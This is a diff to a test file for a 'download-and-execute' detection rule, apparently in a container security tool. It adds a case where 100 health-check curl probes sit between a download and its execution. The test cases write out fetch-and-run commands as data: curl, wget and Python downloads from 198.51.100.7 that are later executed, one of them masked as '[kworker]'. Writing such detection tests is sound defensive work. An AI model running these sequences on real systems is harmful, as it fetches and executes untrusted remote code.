@@ -68,6 +68,8 @@ describe('rule download-and-execute: review finding 11', () => {
 
   test('should trigger: the file a download wrote run later, however named, after any number of other execs', () => {
     const filler = Array.from({ length: 40 }, () => ex('/bin/true', ['true']));
+    // A probe's curl every few seconds must not push the download out of what the container remembers.
+    const probes = Array.from({ length: 100 }, () => ex('/usr/bin/curl', ['curl', '-s', 'http://svc.shop.svc:8080/healthz']));
     const cases: ReturnType<typeof ex>[][] = [
       [ex('/usr/bin/curl', ['curl', '-sLo', 'kube', 'http://198.51.100.7/dl']), ex('/usr/local/bin/kube', ['kube'])],
       [ex('/usr/bin/wget', ['wget', '-qO', '/opt/a', 'http://198.51.100.7/b']), ex('/opt/a', ['/opt/a'])],
@@ -75,6 +77,7 @@ describe('rule download-and-execute: review finding 11', () => {
       [ex('/usr/bin/curl', ['curl', '-s', '-o', '/run/lock/x', 'http://198.51.100.7/q']), ex('/run/lock/x', ['/run/lock/x'])],
       [ex('/usr/bin/curl', ['curl', '-s', 'http://198.51.100.7/q']), ex('/dev/fd/3', ['[kworker]'])],
       [ex('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x']), ...filler, ex('/tmp/x', ['/tmp/x'])],
+      [ex('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x']), ...probes, ex('/tmp/x', ['/tmp/x'])],
       [ex('/usr/bin/python3', ['python3', '-c', 'import urllib.request as u;u.urlretrieve("http://198.51.100.7/x","/tmp/x")']), ex('/tmp/x', ['/tmp/x'])],
       [line('curl -s http://198.51.100.7/payload > /opt/svc'), ex('/usr/bin/curl', ['curl', '-s', 'http://198.51.100.7/payload']), ex('/opt/svc', ['/opt/svc'])],
     ];
